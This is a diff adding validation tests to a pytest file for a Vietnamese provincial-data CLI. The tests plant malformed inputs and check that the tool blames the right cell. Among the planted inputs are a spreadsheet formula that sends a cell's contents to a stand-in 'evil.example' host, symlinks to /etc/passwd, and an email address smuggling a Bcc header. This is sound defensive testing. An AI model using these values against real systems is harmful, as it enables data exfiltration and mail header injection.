@@ -280,3 +280,431 @@ def test_yearbook_template_unfilled_is_skipped_and_filled_rows_join_macro(raw_co
     assert filled[["region", "year", "indicator", "value"]].values.tolist() == [
         ["Bắc Ninh", "2010", "employment", 612.5], ["Bắc Ninh", "2011", "employment", 615.0]]
     assert set(filled["vintage"]) == {"yearbook"}
+
+
+# --------------------------------------------------------------------------------------------------------------
+# The corpus beyond the first 19 kinds (the review of November 2026): one row per kind of bad input, each planted
+# in a copy of data/raw and checked in one `bnkpi validate` (in-process: the CLI's own main(), so the top-level
+# handler and the printing are tested too). A plant returns the spreadsheet location it expects to be blamed
+# (``file:row:column``), or None for an input accepted on purpose.
+
+import datetime as _dt
+import os
+import subprocess
+import sys
+
+from bnkpi_utils import cli
+
+NEXT_YEARS = _dt.date.today().year + 3  # a year no value can have reached yet
+
+
+def _lines(raw: Path, name: str) -> list[str]:
+    return (raw / name).read_text(encoding="utf-8").split("\n")
+
+
+def _set_lines(raw: Path, name: str, lines: list[str]) -> None:
+    (raw / name).write_text("\n".join(lines), encoding="utf-8")
+
+
+def _append(raw: Path, name: str, **row) -> int:
+    header, rows = read_rows(raw / name)
+    rows.append({h: row.get(h, "") for h in header})
+    write_rows(raw / name, header, rows)
+    return sheet_row(len(rows) - 1)
+
+
+def _kpi_to_xlsx(raw: Path, split_at: int | None = None, edit=None) -> None:
+    """kpi_actuals.csv rewritten as kpi_actuals.xlsx (numbers as numbers), rows [split_at:] on a second sheet."""
+    import openpyxl
+
+    header, rows = read_rows(raw / "kpi_actuals.csv")
+    book = openpyxl.Workbook()
+    sheets = [book.active] + ([book.create_sheet("Sheet2")] if split_at else [])
+    parts = [rows[:split_at], rows[split_at:]] if split_at else [rows]
+    for sheet, part in zip(sheets, parts):
+        sheet.append(header)
+        for row in part:
+            sheet.append([float(row[h]) if h in ("year", "value") else row[h] for h in header])
+    if edit:
+        edit(book, header)
+    book.save(raw / "kpi_actuals.xlsx")
+    (raw / "kpi_actuals.csv").unlink()
+
+
+def bad_negative_count(raw):
+    index = _find(raw, "kpi_actuals.csv", indicator="st_works_accepted_per_year", kind="actual")
+    return f"kpi_actuals.csv:{_edit(raw, 'kpi_actuals.csv', index, value='-17')}:value"
+
+
+def bad_growth_1e308_in_digits(raw):
+    index = _find(raw, "macro.csv", region="Bắc Ninh", year="2024", indicator="grdp_growth_pct")
+    return f"macro.csv:{_edit(raw, 'macro.csv', index, value='1' + '0' * 308)}:value"
+
+
+def bad_grdp_401_digits(raw):
+    index = _find(raw, "macro.csv", indicator="grdp_current")
+    return f"macro.csv:{_edit(raw, 'macro.csv', index, value='9' * 401)}:value"
+
+
+def bad_percent_far_out_of_range(raw):
+    index = _find(raw, "macro.csv", region="Bắc Ninh", year="2024", indicator="grdp_growth_pct")
+    return f"macro.csv:{_edit(raw, 'macro.csv', index, value='6500')}:value"
+
+
+def bad_nul_in_source(raw):
+    row = _edit(raw, "kpi_actuals.csv", 20, source="VCCI PCI\x00 profile")
+    return f"kpi_actuals.csv:{row}:source"
+
+
+def bad_header_only_mergers(raw):
+    _set_lines(raw, "province_mergers_2025.csv", _lines(raw, "province_mergers_2025.csv")[:1] + [""])
+    return "province_mergers_2025.csv:2:-"
+
+
+def bad_header_only_targets(raw):
+    _set_lines(raw, "targets.csv", _lines(raw, "targets.csv")[:1] + [""])
+    return "targets.csv:2:-"
+
+
+def bad_header_only_pii(raw):
+    _set_lines(raw, "pii_scores.csv", _lines(raw, "pii_scores.csv")[:1] + [""])
+    return "pii_scores.csv:2:-"
+
+
+def bad_pii_without_bac_ninh(raw):
+    header, rows = read_rows(raw / "pii_scores.csv")
+    write_rows(raw / "pii_scores.csv", header, [r for r in rows if r["province"] != "Bắc Ninh"])
+    return "pii_scores.csv:0:province"
+
+
+def bad_unclosed_quote_swallows_rows(raw):
+    lines = _lines(raw, "kpi_actuals.csv")
+    lines[59] = lines[59].replace(",https://", ',"https://', 1)  # row 60: a quote opened, never closed
+    _set_lines(raw, "kpi_actuals.csv", lines)
+    return "kpi_actuals.csv:60:source"
+
+
+def bad_unclosed_quote_to_end_of_file(raw):
+    lines = [line for line in _lines(raw, "macro.csv") if line]
+    plain = [line for line in lines[1:] if '"' not in line][:3]
+    planted = 'Bắc Ninh,2019,grdp_growth_9m_pct,6.1,percent,"https://bacninh.gov.vn/planted,'
+    _set_lines(raw, "macro.csv", lines + [planted] + plain + [""])  # the quote runs to the end of the file
+    return f"macro.csv:{len(lines) + 1}:source"
+
+
+def bad_two_rows_with_extra_cells(raw):
+    lines = _lines(raw, "kpi_actuals.csv")
+    for row in (53, 61):
+        cells = lines[row - 1].split(",")
+        cells[3] = cells[3] + ",5"  # value 46 → "46,5" unquoted: one cell too many
+        lines[row - 1] = ",".join(cells)
+    _set_lines(raw, "kpi_actuals.csv", lines)
+    return "kpi_actuals.csv:53:-", "kpi_actuals.csv:61:-"
+
+
+def bad_semicolon_separated(raw):
+    header, rows = read_rows(raw / "kpi_actuals.csv")
+    with (raw / "kpi_actuals.csv").open("w", encoding="utf-8-sig", newline="") as fh:
+        import csv
+
+        writer = csv.writer(fh, delimiter=";", lineterminator="\r\n")
+        writer.writerow(header)
+        writer.writerows([[r[h].replace(".", ",") if h == "value" else r[h] for h in header] for r in rows])
+    return "kpi_actuals.csv:1:-"
+
+
+def bad_vietnamese_thousands_in_english_column(raw):
+    index = _find(raw, "macro.csv", region="Bắc Giang", year="2017", indicator="grdp_current")
+    return f"macro.csv:{_edit(raw, 'macro.csv', index, value='67.200.000')}:value"
+
+
+def bad_future_actual(raw):
+    row = _append(raw, "kpi_actuals.csv", indicator="pci_rank", region="Bắc Ninh", year=str(NEXT_YEARS), value="3",
+                  unit="rank of 34", kind="actual", source="planted")
+    return f"kpi_actuals.csv:{row}:year"
+
+
+def bad_future_official_macro(raw):
+    row = _append(raw, "macro.csv", region="Bắc Ninh", year=str(NEXT_YEARS), indicator="grdp_growth_pct",
+                  value="11", unit="percent", source="planted", note="[official]")
+    return f"macro.csv:{row}:year"
+
+
+def bad_future_pii_edition(raw):
+    index = _find(raw, "pii_scores.csv", edition="2025", province="Gia Lai", component="PII")
+    return f"pii_scores.csv:{_edit(raw, 'pii_scores.csv', index, edition=str(NEXT_YEARS))}:edition"
+
+
+def bad_target_year_before_issued(raw):
+    index = _find(raw, "targets.csv", target_id="KH20-16")
+    return f"targets.csv:{_edit(raw, 'targets.csv', index, target_year='2001')}:target_year"
+
+
+def bad_hue_2024_in_pii(raw):
+    index = _find(raw, "pii_scores.csv", edition="2024", province="Bắc Giang", component="PII")
+    return f"pii_scores.csv:{_edit(raw, 'pii_scores.csv', index, province='Hue')}:province"
+
+
+def bad_hue_2023_in_macro(raw):
+    row = _append(raw, "macro.csv", region="Hue", year="2023", indicator="grdp_current", value="70000",
+                  unit="billion VND", source="planted")
+    return f"macro.csv:{row}:region"
+
+
+def bad_directory_named_like_file(raw):
+    (raw / "kpi_actuals.csv").unlink()
+    (raw / "kpi_actuals.csv").mkdir()
+    return "kpi_actuals.csv:0:-"
+
+
+def bad_symlink_out_of_raw(raw):
+    (raw / "kpi_actuals.csv").unlink()
+    (raw / "kpi_actuals.csv").symlink_to("/etc/passwd")
+    return "kpi_actuals.csv:0:-"
+
+
+def bad_supplement_symlink_out_of_raw(raw):
+    (raw / "macro_extra.csv").symlink_to("/etc/hostname")
+    return "macro_extra.csv:0:-"
+
+
+def bad_dangling_symlink(raw):
+    (raw / "targets.csv").unlink()
+    (raw / "targets.csv").symlink_to(raw / "no-such-file.csv")
+    return "targets.csv:0:-"
+
+
+def bad_xlsx_split_over_sheets(raw):
+    _kpi_to_xlsx(raw, split_at=53)
+    return "kpi_actuals.xlsx:0:-"
+
+
+def bad_xlsx_1e308(raw):
+    def edit(book, header):
+        book.active.cell(row=52, column=header.index("value") + 1, value=1e308)
+    _kpi_to_xlsx(raw, edit=edit)
+    return "kpi_actuals.xlsx:52:value"
+
+
+def bad_xlsx_formula_without_result(raw):
+    def edit(book, header):
+        book.active.cell(row=52, column=header.index("value") + 1, value="=3+1")
+    _kpi_to_xlsx(raw, edit=edit)  # openpyxl, like every script, saves formulas without their result
+    return "kpi_actuals.xlsx:52:value"
+
+
+def bad_xlsx_infinite_cell(raw):
+    import zipfile
+
+    def edit(book, header):
+        book.active.cell(row=52, column=header.index("value") + 1, value=123456.5)
+    _kpi_to_xlsx(raw, edit=edit)
+    # Excel cannot store an infinite number; a writer that prints a too large float puts 1E+309 in the cell
+    path = raw / "kpi_actuals.xlsx"
+    with zipfile.ZipFile(path) as book:
+        parts = {name: book.read(name) for name in book.namelist()}
+    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(b"<v>123456.5</v>", b"<v>1E+309</v>")
+    with zipfile.ZipFile(path, "w") as book:
+        for name, data in parts.items():
+            book.writestr(name, data)
+    return "kpi_actuals.xlsx:52:value"
+
+
+def bad_inf_text(raw):
+    return f"macro.csv:{_edit(raw, 'macro.csv', 12, value='inf')}:value"
+
+
+def good_xlsx_instructions_sheet_first(raw):
+    def edit(book, header):
+        notes = book.create_sheet("Hướng dẫn", 0)
+        notes.append(["Điền số liệu vào trang tính 'Sheet', một dòng cho mỗi giá trị."])
+    _kpi_to_xlsx(raw, edit=edit)
+
+
+def good_note_of_200_kb(raw):
+    index = _find(raw, "pii_scores.csv", edition="2025", province="Bắc Ninh", component="PII")
+    _edit(raw, "pii_scores.csv", index, note="Ghi chú dài, có dấu phẩy. " * 8000)
+
+
+def good_space_thousands_crlf_and_reordered_columns(raw):
+    header, rows = read_rows(raw / "macro.csv")
+    index = _find(raw, "macro.csv", region="Bắc Giang", year="2017", indicator="grdp_current")
+    rows[index]["value"] = "67 200"
+    with (raw / "macro.csv").open("w", encoding="utf-8", newline="") as fh:
+        import csv
+
+        writer = csv.DictWriter(fh, fieldnames=header[::-1], lineterminator="\r\n")
+        writer.writeheader()
+        writer.writerows(rows)
+
+
+def good_negative_growth_and_formula_like_text(raw):
+    # a real negative growth rate and a source that starts with '=' are data, not errors (the CSV writer defuses)
+    index = _find(raw, "macro.csv", region="Bắc Ninh", year="2024", indicator="grdp_growth_pct")
+    _edit(raw, "macro.csv", index, value="-3.5")
+    _edit(raw, "kpi_actuals.csv", 20, source='=HYPERLINK("http://evil.example/?q="&A1,"Nguồn")')
+
+
+# kind, plant, expected exit code, words every blamed line must contain (all lines for a plant naming two rows)
+CORPUS = [
+    ("negative_count", bad_negative_count, 2, "below the plausible range"),
+    ("growth_1e308_in_digits", bad_growth_1e308_in_digits, 2, "implausibly large"),
+    ("grdp_401_digits_is_inf", bad_grdp_401_digits, 2, "not a finite number"),
+    ("percent_out_of_range", bad_percent_far_out_of_range, 2, "a percentage"),
+    ("nul_in_source", bad_nul_in_source, 2, "NUL byte"),
+    ("header_only_mergers", bad_header_only_mergers, 2, "header but no rows"),
+    ("header_only_targets", bad_header_only_targets, 2, "header but no rows"),
+    ("header_only_pii", bad_header_only_pii, 2, "header but no rows"),
+    ("pii_without_bac_ninh", bad_pii_without_bac_ninh, 2, "no PII score or rank for Bắc Ninh"),
+    ("unclosed_quote_swallows_rows", bad_unclosed_quote_swallows_rows, 2, "look like rows of their own"),
+    ("unclosed_quote_to_end_of_file", bad_unclosed_quote_to_end_of_file, 2, "look like rows of their own"),
+    ("two_rows_with_extra_cells", bad_two_rows_with_extra_cells, 2, "needs quotes"),
+    ("semicolon_separated", bad_semicolon_separated, 2, "separated by semicolons"),
+    ("vi_thousands_in_en_column", bad_vietnamese_thousands_in_english_column, 2, "'67.200.000' here is Vietnamese"),
+    ("future_actual", bad_future_actual, 2, "after today"),
+    ("future_official_macro", bad_future_official_macro, 2, "after today"),
+    ("future_pii_edition", bad_future_pii_edition, 2, "after today"),
+    ("target_year_before_issued", bad_target_year_before_issued, 2, "before the document was issued"),
+    ("hue_2024_in_pii", bad_hue_2024_in_pii, 2, "did you mean 'Thừa Thiên Huế'"),
+    ("hue_2023_in_macro", bad_hue_2023_in_macro, 2, "did you mean 'Thừa Thiên Huế'"),
+    ("directory_named_like_file", bad_directory_named_like_file, 2, "is a folder"),
+    ("symlink_out_of_raw", bad_symlink_out_of_raw, 2, "outside the raw-data folder"),
+    ("supplement_symlink_out_of_raw", bad_supplement_symlink_out_of_raw, 2, "outside the raw-data folder"),
+    ("dangling_symlink", bad_dangling_symlink, 2, "does not exist"),
+    ("xlsx_split_over_sheets", bad_xlsx_split_over_sheets, 2, "more than one sheet"),
+    ("xlsx_1e308", bad_xlsx_1e308, 2, "implausibly large"),
+    ("xlsx_formula_without_result", bad_xlsx_formula_without_result, 2, "'=3+1' without a saved result"),
+    ("xlsx_infinite_cell", bad_xlsx_infinite_cell, 2, "not a finite number"),
+    ("inf_text", bad_inf_text, 2, "not a number: 'inf'"),
+    ("xlsx_instructions_sheet_first", good_xlsx_instructions_sheet_first, 0, None),
+    ("note_of_200_kb", good_note_of_200_kb, 0, None),
+    ("space_thousands_crlf_reordered", good_space_thousands_crlf_and_reordered_columns, 0, None),
+    ("negative_growth_formula_like_text", good_negative_growth_and_formula_like_text, 0, None),
+]
+
+
+def validate_in_process(raw: Path, capsys) -> tuple[int, list[str], str]:
+    code = cli.main(["validate", "--raw-dir", str(raw)])
+    out, err = capsys.readouterr()
+    return code, out.splitlines(), err
+
+
+@pytest.mark.parametrize("kind, plant, exit_code, words", CORPUS, ids=[c[0] for c in CORPUS])
+def test_corpus(kind, plant, exit_code, words, raw_copy, capsys):
+    expected = plant(raw_copy)
+    code, lines, err = validate_in_process(raw_copy, capsys)
+    assert "Traceback" not in "\n".join(lines) + err
+    assert code == exit_code, lines
+    if exit_code == 0:
+        assert lines == []
+        return
+    prefixes = expected if isinstance(expected, tuple) else (expected,)
+    for prefix in prefixes:
+        blamed = [line for line in lines if line.startswith(prefix)]
+        assert blamed, f"no line starting {prefix!r} in:\n" + "\n".join(lines[:20])
+        assert all(words in line for line in blamed), blamed
+    # the planted problem is the only one: no valid row is blamed besides it
+    assert all(line.startswith(prefixes) for line in lines), lines
+
+
+def test_mixed_notation_blames_only_the_stray_value_and_reads_the_rest(raw_copy):
+    from bnkpi_utils.validate import validate_raw
+
+    expected = bad_vietnamese_thousands_in_english_column(raw_copy)
+    result = validate_raw(raw_copy)
+    assert [f"{p.file}:{p.row}:{p.column}" for p in result.problems] == [expected]
+    macro = result.tables["macro"]
+    # a value that alone could be read both ways ('1,330' vs '1.330') follows the column's English notation
+    row = macro[(macro.region == "Bắc Giang") & (macro.year == "2017") & (macro.indicator == "grdp_current")]
+    assert row["value"].iloc[0] == 67_200_000
+
+
+def test_accepted_inputs_are_read_right(raw_copy):
+    from bnkpi_utils.validate import validate_raw
+
+    good_space_thousands_crlf_and_reordered_columns(raw_copy)
+    good_note_of_200_kb(raw_copy)
+    result = validate_raw(raw_copy)
+    assert result.ok, result.problems[:3]
+    macro, pii = result.tables["macro"], result.tables["pii_scores"]
+    assert macro[(macro.region == "Bắc Giang") & (macro.year == "2017")
+                 & (macro.indicator == "grdp_current")]["value"].tolist() == [67200.0]
+    assert max(len(n) if isinstance(n, str) else 0 for n in pii["note"]) == len("Ghi chú dài, có dấu phẩy. " * 8000) - 1  # stripped
+
+
+def test_unreadable_file_is_refused_not_a_traceback(raw_copy, capsys, monkeypatch):
+    """Mode 000 cannot be tried as root (CAP_DAC_OVERRIDE reads anyway): the refusal of open() is simulated."""
+    real_open = os.open
+
+    def refuse(path, *args, **kwargs):
+        if str(path).endswith("kpi_actuals.csv"):
+            raise PermissionError(13, "Permission denied", str(path))
+        return real_open(path, *args, **kwargs)
+
+    monkeypatch.setattr(os, "open", refuse)
+    code, lines, err = validate_in_process(raw_copy, capsys)
+    assert code == 2
+    assert lines == ["kpi_actuals.csv:0:-: cannot be read: permission denied (check the file's owner and mode)"]
+
+
+@pytest.mark.parametrize("kind", ["fifo", "dev_zero"])
+def test_pipe_or_device_is_refused_without_reading(kind, raw_copy):
+    """Real CLI calls with a time limit: a FIFO used to block forever, /dev/zero to read until MemoryError."""
+    target = raw_copy / "pii_scores.csv"
+    target.unlink()
+    if kind == "fifo":
+        os.mkfifo(target)
+    else:
+        target.symlink_to("/dev/zero")
+    result = subprocess.run([sys.executable, "-m", "bnkpi_utils.cli", "validate", "--raw-dir", str(raw_copy)],
+                            capture_output=True, text=True, timeout=60)
+    assert result.returncode == 2, result.stderr
+    assert "Traceback" not in result.stderr
+    words = "is not a regular file" if kind == "fifo" else "is a symbolic link to /dev/zero, outside the raw-data"
+    assert result.stdout.splitlines()[0].startswith(f"pii_scores.csv:0:-: {words}")
+
+
+def test_file_above_the_size_cap_is_refused_before_reading(raw_copy, monkeypatch, capsys):
+    from bnkpi_utils import io as bio
+
+    monkeypatch.setattr(bio, "MAX_FILE_BYTES", 1000)
+    code, lines, _ = validate_in_process(raw_copy, capsys)
+    assert code == 2
+    assert any(line.startswith("kpi_actuals.csv:0:-: is ") and "at most" in line for line in lines), lines
+
+
+@pytest.mark.parametrize("env", [{"PYTHONIOENCODING": "ascii"},
+                                 {"LC_ALL": "POSIX", "LANG": "", "PYTHONCOERCECLOCALE": "0", "PYTHONUTF8": "0"}],
+                         ids=["pythonioencoding_ascii", "posix_locale"])
+def test_vietnamese_messages_print_in_an_ascii_terminal(env, raw_copy):
+    plant_unknown_province(raw_copy)  # the message quotes 'Bắc Giang'
+    result = run_bnkpi("validate", "--raw-dir", str(raw_copy), env=env)
+    assert result.returncode == 2, result.stderr
+    assert "Traceback" not in result.stderr
+    assert "did you mean 'B\\u1eafc Giang'" in result.stdout
+
+
+def test_line_break_in_an_address_is_a_usage_error():
+    result = run_bnkpi("send", "--to", "a@bacninh.example\r\nBcc: victim@evil.example", "--smtp-host", "127.0.0.1",
+                       "--dry-run")
+    assert result.returncode == 64
+    assert "Traceback" not in result.stderr
+    assert "contains a line break" in result.stderr
+
+
+def test_unexpected_error_is_one_paragraph_and_a_log(monkeypatch, capsys, tmp_path):
+    def broken(*args, **kwargs):
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(cli, "validate_raw", broken)
+    monkeypatch.setenv("TMPDIR", str(tmp_path))
+    import tempfile
+
+    monkeypatch.setattr(tempfile, "tempdir", None)
+    assert cli.main(["validate"]) == 1
+    out, err = capsys.readouterr()
+    assert "Traceback" not in out + err
+    assert len(err.strip().splitlines()) == 1
+    assert "No space left on device" in err
+    logs = list(tmp_path.glob("bnkpi-error-*.log"))
+    assert len(logs) == 1 and "Traceback" in logs[0].read_text(encoding="utf-8")
